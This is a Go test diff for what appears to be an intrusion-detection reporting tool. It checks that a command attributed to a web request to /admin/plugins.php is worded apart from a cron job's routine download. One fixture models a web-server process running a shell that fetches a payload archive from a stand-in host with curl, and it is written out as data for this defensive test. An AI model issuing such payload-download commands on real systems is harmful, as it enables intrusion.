@@ -338,3 +338,39 @@ func TestFindingLinkOfADeletion(t *testing.T) {
 		}
 	}
 }
+
+// "through requests to X" is said of the commands those requests caused,
+// not of every command of the stage (a cron job's download beside them).
+func TestStageSentenceThroughOnlyWhatRequestsCaused(t *testing.T) {
+	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
+	ex := func(id string, pid int, anc []DocAncestor, args ...string) DocFinding {
+		return DocFinding{ID: id, Title: "T", Severity: "high", Stage: 4, StageID: "suspicious-process-spawn", Time: t0, Kind: "exec",
+			ChainID: "C01", Outcome: OutcomeSuccess, Process: &DocProcess{PID: pid, PPID: anc[0].PID, Exe: "/usr/bin/" + args[0], Args: args, Ancestors: anc}}
+	}
+	fs := []DocFinding{
+		ex("F0001", 30, []DocAncestor{{PID: 29, Exe: "/usr/sbin/cron"}}, "wget", "-O", "/var/www/data/rates.json", "http://h/rates.json"),
+		ex("F0002", 20, []DocAncestor{{PID: 9, Exe: "/usr/sbin/php-fpm8.2"}}, "sh", "-c", "curl -o /tmp/p.tgz http://h/p.tgz"),
+		ex("F0003", 21, []DocAncestor{{PID: 20, Exe: "/usr/bin/dash"}, {PID: 9, Exe: "/usr/sbin/php-fpm8.2"}}, "curl", "-o", "/tmp/p.tgz", "http://h/p.tgz"),
+	}
+	byID := map[string]*DocFinding{}
+	var ids []string
+	for i := range fs {
+		byID[fs[i].ID] = &fs[i]
+		ids = append(ids, fs[i].ID)
+	}
+	sg := DocStage{Stage: 4, StageID: "suspicious-process-spawn", Name: "Suspicious process spawn", Observed: true, Confidence: "observed", FindingIDs: ids}
+	ch := &DocChain{ID: "C01", FindingIDs: ids, Stages: []DocStage{sg},
+		Requests: []DocRequest{{Time: t0, Method: "POST", URL: "/admin/plugins.php", Status: 200, Client: "10.0.0.9", PID: 20}}}
+	want := "ran `curl -o /tmp/p.tgz http://h/p.tgz` through requests to /admin/plugins.php; ran `wget -O /var/www/data/rates.json http://h/rates.json`"
+	for _, slim := range []bool{false, true} {
+		if slim { // as the streamed JSON writer leaves them: no ancestors
+			for i := range fs {
+				fs[i] = slimFinding(fs[i])
+			}
+		}
+		got := sentence(ch, sg, byID, "").Text
+		if !strings.Contains(got, want) || strings.Contains(got, "rates.json`, ") {
+			t.Errorf("slim %v: %q: want the cron job's wget apart from what the request ran (%q)", slim, got, want)
+		}
+	}
+}
